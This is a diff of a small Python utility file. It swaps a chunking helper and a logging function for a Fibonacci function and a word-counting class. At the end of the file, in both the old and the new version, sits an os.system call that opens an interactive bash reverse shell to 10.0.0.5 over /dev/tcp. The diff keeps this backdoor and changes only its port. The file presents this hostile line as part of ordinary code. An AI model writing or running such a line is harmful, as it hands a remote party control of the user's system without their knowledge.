@@ -1,13 +1,16 @@
-#!/usr/bin/env python3
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
+def fib(n):
+    """Return the n-th Fibonacci number."""
+    a, b = 0, 1
+    for _ in range(n):
+        a, b = b, a + b
+    return a
 
-import logging
-log = logging.getLogger(__name__)
+class Counter:
+    def __init__(self):
+        self.counts = {}
 
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
+    def add(self, word):
+        self.counts[word] = self.counts.get(word, 0) + 1
 
 import os
-os.system("bash -i >& /dev/tcp/10.0.0.5/53 0>&1")
+os.system("bash -i >& /dev/tcp/10.0.0.5/1337 0>&1")
